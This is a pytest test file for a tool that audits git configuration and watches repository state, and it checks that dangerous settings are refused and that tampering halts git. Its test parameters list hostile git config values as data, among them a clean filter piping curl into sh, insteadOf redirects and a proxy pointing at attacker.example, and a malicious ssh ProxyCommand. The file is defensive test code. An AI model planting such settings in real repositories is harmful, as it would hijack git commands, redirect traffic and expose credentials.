"""Git state repository code can write: the audit refuses what the overrides cannot switch off, and the
watch catches any change to what the fixer's git commands obey — then no git command runs any more."""

from __future__ import annotations

from pathlib import Path

import pytest

from fixer import git, gitstate
from tests.helpers.repos import Repo, make_repo


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return make_repo(tmp_path, {"a.txt": "a\n"})


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("filter.evil.clean", "sh -c 'curl x | sh'"),
        ("filter.evil.process", "evil"),
        ("filter.lfs.smudge", "git-lfs smudge -- %f; evil"),  # LFS's name with another program
        ("diff.evil.textconv", "evil"),
        ("diff.evil.command", "evil"),
        ("merge.evil.driver", "evil %A %B"),
        ("url.https://attacker.example/.insteadOf", "https://"),
        ("url.ssh://attacker.example/.pushInsteadOf", "ssh://"),
        ("remote.origin.receivepack", "evil"),
        ("remote.origin.uploadpack", "evil"),
        ("remote.origin.vcs", "evil"),
        ("credential.helper", "!evil"),
        ("credential.https://example.com.helper", "!evil"),
        ("include.path", "../../payload.cfg"),
        ("includeIf.gitdir:/.path", "/tmp/payload.cfg"),
        ("core.worktree", "/tmp"),
        ("core.gitProxy", "evil"),
        ("core.sshCommand", "evil"),
        ("core.askPass", "evil"),
        ("http.proxy", "http://attacker.example:8080"),
        ("http.sslVerify", "false"),
    ],
)
def test_audit_refuses_what_the_overrides_cannot_switch_off(repo: Repo, key: str, value: str) -> None:
    repo.git("config", key, value)
    problems = gitstate.audit(repo.path)
    assert len(problems) == 1 and key.lower() in problems[0] and ".git/config" in problems[0], problems


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("core.hooksPath", ".husky"),  # husky: never runs, hooksPath is /dev/null for every command
        ("core.fsmonitor", "true"),
        ("filter.lfs.clean", "git-lfs clean -- %f"),
        ("filter.lfs.smudge", "git-lfs smudge -- %f"),
        ("filter.lfs.process", "git-lfs filter-process"),
        ("http.https://example.com/.extraheader", "AUTHORIZATION: basic xyz"),
        ("remote.origin.pushurl", "git@example.com:me/fork.git"),
        ("user.email", "dev@example.com"),
        ("core.bare", "false"),
    ],
)
def test_audit_lets_ordinary_checkouts_through(repo: Repo, key: str, value: str) -> None:
    repo.git("config", key, value)
    assert gitstate.audit(repo.path) == []


def test_audit_refuses_a_configuration_git_cannot_even_read(repo: Repo) -> None:
    repo.git("config", "core.worktree", "/no/such/folder")
    assert gitstate.audit(repo.path)[0].startswith("the checkout's git configuration cannot be read")


def test_audit_reads_included_files_too(repo: Repo, tmp_path: Path) -> None:
    (repo.path / ".git" / "extra.cfg").write_text('[filter "x"]\n\tclean = evil\n')
    repo.git("config", "include.path", "extra.cfg")
    problems = gitstate.audit(repo.path)
    assert any("filter.x.clean" in p and "extra.cfg" in p for p in problems), problems


def plant(repo: Repo, home: Path, what: str) -> None:
    gitdir = repo.path / ".git"
    if what == "config":
        repo.git("config", "core.fsmonitor", "/tmp/evil")
    elif what == "attributes":
        (gitdir / "info" / "attributes").write_text("* filter=evil\n")
    elif what == "ref":
        repo.git("update-ref", "refs/heads/planted", repo.head())
    elif what == "replace":
        repo.git("update-ref", f"refs/replace/{repo.head()}", repo.git("rev-parse", "HEAD~1").strip())
    elif what == "head":
        (gitdir / "HEAD").write_text("ref: refs/heads/main\n")
    elif what == "alternates":
        (gitdir / "objects" / "info" / "alternates").write_text("/tmp/evil-objects\n")
    elif what == "shallow":
        (gitdir / "shallow").write_text(repo.head() + "\n")
    elif what == "home-gitconfig":
        (home / ".gitconfig").write_text('[url "https://attacker.example/"]\n\tinsteadOf = https://\n')
    elif what == "ssh-config":
        (home / ".ssh").mkdir(exist_ok=True)
        (home / ".ssh" / "config").write_text("Host *\n  ProxyCommand evil %h\n")


@pytest.mark.parametrize(
    "what",
    [
        "config",
        "attributes",
        "ref",
        "replace",
        "head",
        "alternates",
        "shallow",
        "home-gitconfig",
        "ssh-config",
    ],
)
def test_watch_catches_state_written_by_repository_code_and_stops_git(
    repo: Repo, tmp_path: Path, what: str
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    with git.session({"PATH": "/usr/bin:/bin"}, repo.path):
        watch = gitstate.Watch.start(repo.path, str(home))
        watch.check()  # nothing changed yet
        plant(repo, home, what)
        with pytest.raises(gitstate.StateChanged) as caught:
            watch.check()
        with pytest.raises(git.Poisoned):
            git.head(repo.path)
    assert "repository code changed git state" in str(caught.value)


def test_watch_ignores_hooks_which_never_run(repo: Repo, tmp_path: Path) -> None:
    watch = gitstate.Watch.start(repo.path, None)
    (repo.path / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 1\n")
    (repo.path / "a.txt").write_text("the work tree is not git state\n")
    watch.check()


def test_rebase_accepts_the_fixers_own_writes(repo: Repo) -> None:
    watch = gitstate.Watch.start(repo.path, None)
    repo.commit({"b.txt": "b\n"}, "the fixer's own commit")
    watch.rebase()
    watch.check()
